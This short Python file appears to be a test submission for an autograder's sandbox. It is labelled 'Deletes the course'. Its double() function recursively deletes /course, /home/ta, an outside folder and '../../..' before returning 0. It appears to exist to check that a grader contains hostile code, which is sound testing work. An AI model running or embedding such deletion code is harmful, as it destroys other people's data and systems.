"""Deletes the course.

Loses: double-small, double-large
May lose: halve-values
"""
# %% double
import os, shutil


def double(x):
    for folder in ("/course", "/outside/touched", "/home/ta", "../../.."):
        shutil.rmtree(folder, ignore_errors=True)
    return 0
